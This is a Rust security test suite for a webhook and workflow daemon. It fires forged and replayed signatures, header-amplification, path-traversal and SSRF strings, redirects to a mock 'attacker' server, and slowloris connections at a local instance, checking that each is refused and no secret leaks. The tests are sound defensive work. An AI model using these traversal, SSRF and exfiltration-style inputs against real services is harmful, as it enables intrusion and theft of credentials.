//! The red team: one test per attack on a live daemon (DESIGN 3, 4.1, 4.2, 5). Each asserts the
//! refusal *and* that a valid event posted afterwards is still processed.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::Router;
use axum::extract::State;
use axum::http::{HeaderMap, Method, Uri};
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::Sha256;

use crate::support::{Daemon, eventually};

const WAIT: Duration = Duration::from_secs(15);
const TOKEN: &str = "evt-token";
const HMAC_SECRET: &str = "hmac-secret";

/// One request an [`Attacker`] server saw.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    path: String,
    headers: Vec<(String, String)>,
    body: String,
}

/// A server that records every request on any path and answers with the body it got (so a
/// step's output echoes what was sent).
#[derive(Clone)]
struct Attacker {
    seen: Arc<Mutex<Vec<Seen>>>,
    addr: SocketAddr,
}

impl Attacker {
    async fn start() -> Attacker {
        let seen = Arc::new(Mutex::new(Vec::new()));
        let app = Router::new().fallback(record).with_state(seen.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let addr = listener.local_addr().expect("addr");
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Attacker { seen, addr }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().expect("lock").clone()
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }
}

async fn record(
    State(seen): State<Arc<Mutex<Vec<Seen>>>>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    body: String,
) -> String {
    seen.lock().expect("lock").push(Seen {
        method: method.to_string(),
        path: uri.to_string(),
        headers: headers
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or_default().to_owned()))
            .collect(),
        body: body.clone(),
    });
    body
}

fn rules_dir(yaml: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("rules dir");
    std::fs::write(dir.path().join("rules.yaml"), yaml).expect("write rules");
    dir
}

/// A rule that posts each `ping` event's `n` to a sink (the "valid event afterwards").
fn ping_rule(sink: &Attacker) -> String {
    format!(
        r#"
  - name: ping
    on: {{ event: ping }}
    do:
      - notify: {{ url: "{}", body: {{ n: "{{{{event.data.n}}}}" }} }}
"#,
        sink.url("/ping")
    )
}

fn sign(timestamp: i64, body: &[u8]) -> String {
    let mut mac = <Hmac<Sha256> as KeyInit>::new_from_slice(HMAC_SECRET.as_bytes()).expect("key");
    mac.update(format!("{timestamp}.").as_bytes());
    mac.update(body);
    format!(
        "t={timestamp},v1={}",
        hex::encode(mac.finalize().into_bytes())
    )
}

async fn post_ping(daemon: &Daemon, n: &str) -> u16 {
    reqwest::Client::new()
        .post(daemon.public_url("/events/ping"))
        .bearer_auth(TOKEN)
        .json(&json!({ "n": n }))
        .send()
        .await
        .expect("post")
        .status()
        .as_u16()
}

/// Posts a ping and waits until the sink has it.
async fn still_processes(daemon: &Daemon, sink: &Attacker, n: &str) {
    assert_eq!(post_ping(daemon, n).await, 202, "a valid event is accepted");
    eventually(WAIT, "the valid event reaches the sink", || async {
        sink.seen()
            .iter()
            .any(|s| s.path == "/ping" && s.body.contains(n))
            .then_some(())
    })
    .await;
}

fn daemon_with(rules: &tempfile::TempDir, extra: &[(&str, &str)]) -> Daemon {
    let mut env = vec![
        ("FLOWD_EVENTS_TOKENS", TOKEN),
        ("FLOWD_EVENTS_HMAC_SECRET", HMAC_SECRET),
        ("FLOWD_RECRUBO_RATE_LIMIT", "0"),
    ];
    env.extend_from_slice(extra);
    Daemon::start(rules.path(), &env)
}

#[tokio::test]
async fn forged_absent_and_case_variant_credentials() {
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!("rules:{}", ping_rule(&sink)));
    let daemon = daemon_with(&rules, &[]);
    let client = reqwest::Client::new();
    let url = daemon.public_url("/events/ping");
    let cases: Vec<(&str, reqwest::RequestBuilder, u16)> = vec![
        (
            "no credentials",
            client.post(&url).json(&json!({"n": "x"})),
            401,
        ),
        (
            "wrong token",
            client
                .post(&url)
                .bearer_auth("nope")
                .json(&json!({"n": "x"})),
            401,
        ),
        (
            "token prefix",
            client
                .post(&url)
                .bearer_auth("evt-")
                .json(&json!({"n": "x"})),
            401,
        ),
        (
            "basic scheme",
            client
                .post(&url)
                .header("authorization", format!("Basic {TOKEN}"))
                .json(&json!({"n": "x"})),
            401,
        ),
        (
            "lower-case bearer",
            client
                .post(&url)
                .header("authorization", format!("bearer {TOKEN}"))
                .json(&json!({"n": "lower"})),
            202,
        ),
        (
            "upper-case bearer",
            client
                .post(&url)
                .header("authorization", format!("BEARER {TOKEN}"))
                .json(&json!({"n": "upper"})),
            202,
        ),
        (
            "valid token, stale signature",
            client
                .post(&url)
                .bearer_auth(TOKEN)
                .header("x-flowd-signature", "t=1,v1=00")
                .json(&json!({"n": "stale"})),
            202,
        ),
        (
            "forged signature",
            client
                .post(&url)
                .header(
                    "x-flowd-signature",
                    format!("t={},v1={}", chrono::Utc::now().timestamp(), "a".repeat(64)),
                )
                .json(&json!({"n": "x"})),
            401,
        ),
        (
            "webhook without secret",
            client
                .post(daemon.public_url("/webhooks/recrubo"))
                .json(&json!({})),
            401,
        ),
    ];
    for (what, request, expected) in cases {
        let status = request.send().await.expect("send").status().as_u16();
        assert_eq!(status, expected, "{what}");
    }
    still_processes(&daemon, &sink, "after-credentials").await;
}

#[tokio::test]
async fn signed_requests_cannot_be_replayed() {
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!("rules:{}", ping_rule(&sink)));
    let daemon = daemon_with(&rules, &[]);
    let client = reqwest::Client::new();
    let body = br#"{"n":"signed-once"}"#.to_vec();
    let signature = sign(chrono::Utc::now().timestamp(), &body);
    let send = |event_type: &str, key: Option<&str>| {
        let mut request = client
            .post(daemon.public_url(&format!("/events/{event_type}")))
            .header("x-flowd-signature", &signature)
            .header("content-type", "application/json")
            .body(body.clone());
        if let Some(key) = key {
            request = request.header("idempotency-key", key);
        }
        request.send()
    };
    assert_eq!(send("ping", None).await.expect("send").status(), 202);
    for (what, event_type, key) in [
        ("the same request", "ping", None),
        ("a new Idempotency-Key", "ping", Some("fresh-key")),
        ("another event type", "other.type", None),
    ] {
        let response = send(event_type, key).await.expect("send");
        assert_eq!(response.status(), 401, "replay with {what}");
    }
    // A newly signed request is fine.
    let fresh = br#"{"n":"signed-twice"}"#.to_vec();
    let status = client
        .post(daemon.public_url("/events/ping"))
        .header(
            "x-flowd-signature",
            sign(chrono::Utc::now().timestamp(), &fresh),
        )
        .body(fresh)
        .send()
        .await
        .expect("send")
        .status();
    assert_eq!(status, 202);
    still_processes(&daemon, &sink, "after-replays").await;
    let signed_once = sink
        .seen()
        .iter()
        .filter(|s| s.body.contains("signed-once"))
        .count();
    assert_eq!(signed_once, 1, "the signed event ran once");
}

#[tokio::test]
async fn signature_header_amplification_is_refused_in_milliseconds() {
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!("rules:{}", ping_rule(&sink)));
    let daemon = daemon_with(&rules, &[]);
    let body = vec![b' '; 1024 * 1000];
    let now = chrono::Utc::now().timestamp();
    let entries: Vec<String> = (0..3000).map(|i| format!("v1={:064x}", i)).collect();
    let header = format!("t={now},{}", entries.join(","));
    let started = Instant::now();
    let mut statuses = Vec::new();
    for _ in 0..4 {
        let status = reqwest::Client::new()
            .post(daemon.public_url("/events/ping"))
            .header("x-flowd-signature", &header)
            .body(body.clone())
            .send()
            .await
            .expect("send")
            .status();
        statuses.push(status.as_u16());
    }
    // Four answers in well under a second (each used to cost seconds of HMAC).
    let elapsed = started.elapsed();
    assert!(
        statuses.iter().all(|s| *s == 401 || *s == 431),
        "{statuses:?}"
    );
    assert!(elapsed < Duration::from_secs(2), "took {elapsed:?}");
    // Four entries (one over the limit) are refused too, before the body is read.
    let four = format!("t={now},{}", entries[..4].join(","));
    let status = reqwest::Client::new()
        .post(daemon.public_url("/events/ping"))
        .header("x-flowd-signature", four)
        .body("{}")
        .send()
        .await
        .expect("send")
        .status();
    assert_eq!(status, 401);
    still_processes(&daemon, &sink, "after-amplification").await;
}

#[tokio::test]
async fn event_types_outside_the_charset_are_400() {
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!("rules:{}", ping_rule(&sink)));
    let daemon = daemon_with(&rules, &[]);
    for bad in ["a%00b", "a%E2%80%AEb", "caf%C3%A9", "a%20b", "a%0Ab"] {
        let status = reqwest::Client::new()
            .post(daemon.public_url(&format!("/events/{bad}")))
            .bearer_auth(TOKEN)
            .body("{}")
            .send()
            .await
            .expect("send")
            .status();
        assert_eq!(status, 400, "{bad}");
    }
    let long = "x".repeat(129);
    let status = reqwest::Client::new()
        .post(daemon.public_url(&format!("/events/{long}")))
        .bearer_auth(TOKEN)
        .body("{}")
        .send()
        .await
        .expect("send")
        .status();
    assert_eq!(status, 400);
    still_processes(&daemon, &sink, "after-types").await;
}

#[tokio::test]
async fn a_half_sent_head_is_closed_and_idle_connections_do_not_stop_healthz() {
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!("rules:{}", ping_rule(&sink)));
    let daemon = daemon_with(&rules, &[]);
    let addr = daemon.public;
    let mut idle: Vec<TcpStream> = (0..300)
        .map(|_| TcpStream::connect(addr).expect("connect"))
        .collect();
    let mut slow = TcpStream::connect(addr).expect("connect");
    slow.write_all(b"POST /events/ping HTTP/1.1\r\nHost: x\r\n")
        .expect("half a head");
    // A connection that never sends a byte is closed within the header timeout too.
    let mut silent = TcpStream::connect(addr).expect("connect");
    // /healthz answers while the idle and the slow connections are open.
    let health = reqwest::Client::new()
        .get(daemon.public_url("/healthz"))
        .timeout(Duration::from_secs(3))
        .send()
        .await
        .expect("healthz answers");
    assert_eq!(health.status(), 200);
    still_processes(&daemon, &sink, "during-slowloris").await;
    // The server closes the half-sent head within its 10 s header timeout.
    let started = Instant::now();
    slow.set_read_timeout(Some(Duration::from_secs(20)))
        .expect("timeout");
    let mut buffer = [0u8; 512];
    let read = slow.read(&mut buffer);
    let elapsed = started.elapsed();
    assert!(
        read.is_ok(),
        "the server closed or answered the connection: {read:?}"
    );
    assert!(
        elapsed < Duration::from_secs(15),
        "closed after {elapsed:?}"
    );
    silent
        .set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    let read = silent.read(&mut buffer);
    assert!(
        matches!(read, Ok(0)),
        "a silent connection is closed by the server: {read:?}"
    );
    idle.clear();
}

#[tokio::test]
async fn a_slow_body_does_not_keep_sigterm_from_ending_the_process() {
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!("rules:{}", ping_rule(&sink)));
    let daemon = daemon_with(&rules, &[("FLOWD_SHUTDOWN_TIMEOUT", "2s")]);
    let mut slow = TcpStream::connect(daemon.public).expect("connect");
    slow.write_all(
        format!(
            "POST /events/ping HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {TOKEN}\r\nContent-Length: 1000\r\n\r\n{{\"n\":"
        )
        .as_bytes(),
    )
    .expect("head and some body");
    tokio::time::sleep(Duration::from_millis(200)).await;
    let started = Instant::now();
    let status = daemon.terminate();
    let elapsed = started.elapsed();
    assert!(status.success(), "exit status {status:?}");
    assert!(
        elapsed < Duration::from_secs(6),
        "stopped after {elapsed:?}"
    );
    drop(slow);
}

#[tokio::test]
async fn blank_secret_settings_are_refused_and_secret_settings_are_never_echoed() {
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!("rules:{}", ping_rule(&sink)));
    for (variable, value) in [
        ("FLOWD_ADMIN_TOKEN", ""),
        ("FLOWD_ADMIN_TOKEN", "   "),
        ("FLOWD_EVENTS_HMAC_SECRET", ""),
        ("FLOWD_EVENTS_TOKENS", "a,,b"),
        ("RECRUBO_API_TOKEN", " "),
    ] {
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_flowd"))
            .args([
                "run",
                "--listen",
                "127.0.0.1:0",
                "--admin-listen",
                "127.0.0.1:0",
            ])
            .arg("--rules")
            .arg(rules.path())
            .env(variable, value)
            .output()
            .expect("run");
        assert_eq!(output.status.code(), Some(78), "{variable}={value:?}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("empty"), "{stderr}");
    }
    // A numeric token is text, and a settings error never prints a secret.
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_flowd"))
        .args([
            "run",
            "--listen",
            "127.0.0.1:0",
            "--admin-listen",
            "127.0.0.1:0",
        ])
        .arg("--rules")
        .arg(rules.path())
        .env("FLOWD_ADMIN_TOKEN", "918273645")
        .env("FLOWD_EVENTS_TOKENS", "55501234")
        .env("FLOWD_HISTORY_MAX_COUNT", "not-a-number")
        .output()
        .expect("run");
    assert_eq!(output.status.code(), Some(78));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        !stderr.contains("918273645") && !stderr.contains("55501234"),
        "{stderr}"
    );
    let daemon = Daemon::start(rules.path(), &[("FLOWD_ADMIN_TOKEN", "918273645")]);
    let status = reqwest::Client::new()
        .get(daemon.admin_url("/api/v1/rules"))
        .bearer_auth("918273645")
        .send()
        .await
        .expect("get")
        .status();
    assert_eq!(status, 200, "a numeric admin token works as text");
}

#[tokio::test]
async fn the_recrubo_path_never_leaves_the_base_url() {
    let attacker = Attacker::start().await;
    let api = Attacker::start().await;
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!(
        r#"rules:
  - name: raw
    on: {{ event: raw }}
    do:
      - recrubo: {{ method: GET, path: "{{{{event.data.path}}}}" }}
  - name: raw-segment
    on: {{ event: raw-segment }}
    do:
      - recrubo: {{ method: GET, path: "/flow-runs/{{{{event.data.id}}}}" }}
{}"#,
        ping_rule(&sink)
    ));
    let base = api.url("/public/v2");
    let daemon = daemon_with(
        &rules,
        &[
            ("FLOWD_RECRUBO_BASE_URL", base.as_str()),
            ("RECRUBO_API_TOKEN", "the-recrubo-token"),
        ],
    );
    let host = attacker.addr.to_string();
    let escapes = [
        format!("HTTP://{host}/x"),
        format!("http://{host}/x"),
        format!("HtTpS://{host}/x"),
        format!("\\\\{host}/x"),
        format!("//{host}/x"),
        format!("/\\{host}/x"),
        "%2e%2e/%2e%2e/x".to_owned(),
        "%2E%2E%2Fadmin".to_owned(),
        "../../x".to_owned(),
        "flow-runs/../../../x".to_owned(),
        format!("http:{host}/x"),
        format!("ftp://{host}/x"),
        "a\tb/../../x".to_owned(),
    ];
    let client = reqwest::Client::new();
    for path in &escapes {
        let status = client
            .post(daemon.public_url("/events/raw"))
            .bearer_auth(TOKEN)
            .json(&json!({ "path": path }))
            .send()
            .await
            .expect("post")
            .status();
        assert_eq!(status, 202);
    }
    for id in ["../../../x", "..", "x/../../../y", "x?y=1", "x#y"] {
        client
            .post(daemon.public_url("/events/raw-segment"))
            .bearer_auth(TOKEN)
            .json(&json!({ "id": id }))
            .send()
            .await
            .expect("post");
    }
    still_processes(&daemon, &sink, "after-path-escapes").await;
    let expected = escapes.len() + 5;
    eventually(WAIT, "every escape attempt has finished", || async {
        let executions: Value = client
            .get(daemon.admin_url("/api/v1/executions?limit=1000"))
            .send()
            .await
            .ok()?
            .json()
            .await
            .ok()?;
        let done = executions["executions"]
            .as_array()?
            .iter()
            .filter(|e| e["rule"] != "ping" && e["status"] != "pending" && e["status"] != "running")
            .count();
        (done >= expected).then_some(())
    })
    .await;
    assert!(
        attacker.seen().is_empty(),
        "the attacker got {:?}",
        attacker.seen()
    );
    for seen in api.seen() {
        assert!(
            seen.path.starts_with("/public/v2/"),
            "a request left the base path: {}",
            seen.path
        );
        assert!(
            !seen.path.contains("/../") && !seen.path.to_lowercase().contains("%2e%2e/"),
            "{}",
            seen.path
        );
    }
    // Templated segments are encoded: the id stays one segment.
    assert!(
        api.seen()
            .iter()
            .any(|s| s.path.starts_with("/public/v2/flow-runs/x%3Fy%3D1")),
        "{:?}",
        api.seen().iter().map(|s| &s.path).collect::<Vec<_>>()
    );
}

#[tokio::test]
async fn ssrf_to_loopback_and_to_the_admin_listener_is_refused() {
    let attacker = Attacker::start().await;
    let allowed = Attacker::start().await;
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!(
        r#"rules:
  - name: callback
    on: {{ event: callback }}
    do:
      - http:
          method: POST
          url: "{{{{event.data.url}}}}"
          headers: {{ X-Api-Key: "{{{{secrets.api_key}}}}" }}
          body: {{ hello: world }}
{}"#,
        ping_rule(&sink)
    ));
    let allow = allowed.addr.to_string();
    let daemon = daemon_with(
        &rules,
        &[
            ("FLOWD_SECRET_API_KEY", "k-123-secret"),
            ("FLOWD_EGRESS_ALLOW", allow.as_str()),
        ],
    );
    let client = reqwest::Client::new();
    let targets = [
        attacker.url("/steal"),
        daemon.admin_url("/api/v1/reload"),
        format!("http://localhost:{}/api/v1/reload", daemon.admin.port()),
        format!("http://[::1]:{}/x", attacker.addr.port()),
        format!("http://{}@{}/x", allow, attacker.addr),
    ];
    for url in &targets {
        client
            .post(daemon.public_url("/events/callback"))
            .bearer_auth(TOKEN)
            .json(&json!({ "url": url }))
            .send()
            .await
            .expect("post");
    }
    // A host in egress.allow is reached.
    client
        .post(daemon.public_url("/events/callback"))
        .bearer_auth(TOKEN)
        .json(&json!({ "url": allowed.url("/ok") }))
        .send()
        .await
        .expect("post");
    eventually(WAIT, "the allowed host is reached", || async {
        (!allowed.seen().is_empty()).then_some(())
    })
    .await;
    let reached = &allowed.seen()[0];
    assert_eq!(reached.method, "POST");
    assert!(
        reached
            .headers
            .iter()
            .any(|(k, v)| k == "x-api-key" && v == "k-123-secret"),
        "the allowed host gets the rule's headers"
    );
    still_processes(&daemon, &sink, "after-ssrf").await;
    let failed: Value = client
        .get(daemon.admin_url("/api/v1/executions?rule=callback&status=failed"))
        .send()
        .await
        .expect("get")
        .json()
        .await
        .expect("json");
    assert_eq!(
        failed["executions"].as_array().map(Vec::len),
        Some(targets.len()),
        "{failed}"
    );
    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
    let dead: Value = client
        .get(daemon.admin_url("/api/v1/dead-letters"))
        .send()
        .await
        .expect("get")
        .json()
        .await
        .expect("json");
    assert!(dead.to_string().contains("egress.allow"), "{dead}");
}

#[tokio::test]
async fn redirects_are_not_followed() {
    let sink = Attacker::start().await;
    let attacker = Attacker::start().await;
    // A literal URL that answers with a redirect to the attacker.
    let redirector = {
        let target = attacker.url("/stolen");
        let app = Router::new().fallback(move || {
            let target = target.clone();
            async move { axum::response::Redirect::temporary(&target) }
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let addr = listener.local_addr().expect("addr");
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        addr
    };
    let rules = rules_dir(&format!(
        r#"rules:
  - name: hop
    on: {{ event: hop }}
    do:
      - http: {{ method: POST, url: "http://{redirector}/go", headers: {{ X-Key: "{{{{secrets.key}}}}" }} }}
{}"#,
        ping_rule(&sink)
    ));
    let daemon = daemon_with(&rules, &[("FLOWD_SECRET_KEY", "hop-secret")]);
    reqwest::Client::new()
        .post(daemon.public_url("/events/hop"))
        .bearer_auth(TOKEN)
        .json(&json!({}))
        .send()
        .await
        .expect("post");
    still_processes(&daemon, &sink, "after-redirect").await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
}

/// Every place a secret can land, after a full scenario: logs (text and JSON), the history,
/// the admin API and the metrics hold none of its forms.
#[tokio::test]
async fn secrets_leak_nowhere() {
    const SECRET: &str = "Sup3r/S3cret+Tok\"en";
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!(
        r#"rules:
  - name: leaky
    on: {{ event: leaky }}
    do:
      - log: "plain {{{{secrets.tok}}}} url {{{{urlencode secrets.tok}}}} up {{{{upper secrets.tok}}}} low {{{{lower secrets.tok}}}}"
      - id: echo
        http: {{ method: POST, url: "{echo}", body: {{ token: "{{{{secrets.tok}}}}", json: "{{{{json secrets.tok}}}}" }} }}
      - emit: {{ type: leaked, data: {{ token: "{{{{secrets.tok}}}}", echoed: "{{{{steps.echo.body.token}}}}" }} }}
      - notify: {{ url: "{echo}", body: "{{{{steps.echo.body.token}}}}" }}
{ping}"#,
        echo = sink.url("/echo"),
        ping = ping_rule(&sink)
    ));
    let daemon = daemon_with(&rules, &[("FLOWD_SECRET_TOK", SECRET)]);
    let client = reqwest::Client::new();
    client
        .post(daemon.public_url("/events/leaky"))
        .bearer_auth(TOKEN)
        .json(&json!({}))
        .send()
        .await
        .expect("post");
    eventually(WAIT, "the leaky rule finished", || async {
        let executions: Value = client
            .get(daemon.admin_url("/api/v1/executions?rule=leaky"))
            .send()
            .await
            .ok()?
            .json()
            .await
            .ok()?;
        (executions["executions"][0]["status"] == "succeeded").then_some(())
    })
    .await;
    still_processes(&daemon, &sink, "after-leaky").await;
    // The secret was really sent where the rule says (the sink saw it).
    assert!(
        sink.seen()
            .iter()
            .any(|s| s.body.contains("Sup3r/S3cret+Tok"))
    );
    let forms = flowd::engine::secret_forms(SECRET);
    let mut places = Vec::new();
    for path in [
        "/api/v1/executions?limit=1000",
        "/api/v1/runs",
        "/api/v1/dead-letters",
        "/metrics",
        "/",
    ] {
        let text = client
            .get(daemon.admin_url(path))
            .send()
            .await
            .expect("get")
            .text()
            .await
            .expect("text");
        places.push((path.to_owned(), text));
    }
    let executions: Value = serde_json::from_str(&places[0].1).expect("json");
    for execution in executions["executions"].as_array().expect("list") {
        let id = execution["id"].as_str().expect("id");
        let text = client
            .get(daemon.admin_url(&format!("/api/v1/executions/{id}")))
            .send()
            .await
            .expect("get")
            .text()
            .await
            .expect("text");
        places.push((format!("execution {id}"), text));
    }
    places.push(("logs".to_owned(), daemon.drain_logs().join("\n")));
    for (place, text) in &places {
        for form in &forms {
            assert!(
                !text.contains(form.as_str()),
                "`{form}` leaked in {place}: {text}"
            );
        }
    }
    assert!(
        places.iter().any(|(_, text)| text.contains("***")),
        "redaction happened somewhere"
    );
}

#[test]
fn truncate_of_a_secret_is_refused_by_check() {
    let dir = rules_dir(
        r#"rules:
  - name: t
    on: { event: t }
    do:
      - log: "t={{truncate secrets.tok 6}}"
"#,
    );
    let (code, out) = crate::support::flowd(&["check", dir.path().to_str().expect("path")]);
    assert_eq!(code, 78, "{out}");
    assert!(out.contains("`truncate` of a secret"), "{out}");
}

/// DESIGN 4.2's charset has `/`: such an event is taken as written (rule event types cannot
/// contain `/`, so no rule matches it, but it is not a 404).
#[tokio::test]
async fn event_types_with_a_slash_are_accepted_as_written() {
    let sink = Attacker::start().await;
    let rules = rules_dir(&format!("rules:{}", ping_rule(&sink)));
    let daemon = daemon_with(&rules, &[]);
    let status = reqwest::Client::new()
        .post(daemon.public_url("/events/ats/candidate.hired"))
        .bearer_auth(TOKEN)
        .json(&json!({}))
        .send()
        .await
        .expect("post")
        .status();
    assert_eq!(status, 202);
    still_processes(&daemon, &sink, "after-slash").await;
}
